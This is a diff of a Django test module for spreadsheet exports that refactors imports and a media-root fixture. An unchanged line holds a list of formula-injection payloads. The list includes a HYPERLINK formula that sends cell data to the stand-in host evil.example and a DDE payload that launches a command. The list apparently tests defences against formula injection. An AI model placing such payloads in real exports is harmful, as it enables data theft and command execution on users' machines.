@@ -16,20 +16,14 @@ from grid.models import EventCategory
 from inspection import ledger_export, onsite, reports, round_reports
 from inspection.circulars import _xlsx_sheet
 from inspection.models import RoundTarget
+from tests.conftest import photo
 from tests.inspection.test_reports import make_item
 from tests.inspection.test_round_reports import make_group, make_round, make_taxonomy
 
-from .world import photo
-
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("media_in_tmp")]
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(1,2)", "=cmd|' /C calc'!A0",
            "\t=1+1", "＝1+1"]
-
-
-@pytest.fixture(autouse=True)
-def media_in_tmp(settings, tmp_path):
-    settings.MEDIA_ROOT = tmp_path / "media"
 
 
 def cells(content: bytes):
